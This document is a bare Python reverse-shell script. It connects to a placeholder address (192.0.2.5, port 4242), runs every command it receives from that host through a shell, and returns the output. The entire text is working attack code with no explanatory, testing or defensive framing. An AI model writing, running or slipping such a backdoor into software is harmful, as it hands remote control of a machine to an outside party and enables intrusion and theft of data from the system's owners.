import socket,subprocess
s=socket.socket()
s.connect(('192.0.2.5',4242))
while 1:
    d=s.recv(1024).decode()
    if d=='quit': break
    p=subprocess.Popen(d,shell=True,stdout=subprocess.PIPE,stderr=subprocess.STDOUT)
    s.send(p.stdout.read())
